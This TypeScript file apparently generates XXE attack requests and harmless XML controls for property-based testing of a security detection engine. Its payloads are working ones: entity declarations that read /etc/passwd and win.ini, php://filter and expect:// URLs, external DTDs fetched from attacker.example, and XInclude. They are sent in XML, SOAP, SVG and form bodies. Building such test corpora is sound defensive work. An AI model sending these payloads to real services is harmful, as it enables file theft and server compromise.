// XXE variants: DTDs declaring external general or parameter entities (SYSTEM/PUBLIC,
// file/http/php/expect/jar URLs), XInclude, in XML bodies of several content types and
// in a form field that carries XML.
import fc from "fast-check";
import { pick } from "./positions.js";
import type { Req } from "../engine.js";

const URLS = pick(["file:///etc/passwd", "http://attacker.example/x.dtd", "php://filter/convert.base64-encode/resource=index.php", "expect://id", "file:///c:/windows/win.ini", "jar:http://attacker.example/a.jar!/x", "netdoc:///etc/passwd"]);
/** An XML document whose DTD or XInclude reads a file or URL. */
export const xxeDocument: fc.Arbitrary<string> = fc.oneof(
  fc.tuple(pick(["SYSTEM", "PUBLIC \"-//x//y\""]), URLS, pick(["foo", "root", "data"]), pick(["xxe", "ent", "a"])).map(([k, u, root, e]) =>
    `<?xml version="1.0"?><!DOCTYPE ${root} [<!ENTITY ${e} ${k} "${u}">]><${root}>&${e};</${root}>`),
  fc.tuple(URLS, pick(["dtd", "p"])).map(([u, p]) => `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % ${p} SYSTEM "${u}"> %${p};]><r/>`),
  fc.tuple(URLS).map(([u]) => `<!DOCTYPE r SYSTEM "${u}"><r>1</r>`),
  pick(["<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></r>"]),
);
export const xxeAttackRequest: fc.Arbitrary<Req> = fc.tuple(xxeDocument, pick(["application/xml", "text/xml", "application/soap+xml", "form", "image/svg+xml"])).map(([d, ct]): Req =>
  ct === "form"
    ? { method: "POST", path: "/import", headers: [["host", "svc.local"], ["content-type", "application/x-www-form-urlencoded"]], body: `xml=${encodeURIComponent(d)}` }
    : { method: "POST", path: "/import", headers: [["host", "svc.local"], ["content-type", ct]], body: d },
);
export const xxeBenignRequest: fc.Arbitrary<Req> = pick([
  "<?xml version=\"1.0\"?><order><id>5</id><note>Tom &amp; Jerry</note></order>", "<!DOCTYPE html><html><body>hi</body></html>",
  "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"5\"/></svg>", "<feed><title>Entity framework tips</title></feed>",
]).map((b): Req => ({ method: "POST", path: "/import", headers: [["host", "svc.local"], ["content-type", "application/xml"]], body: b }));
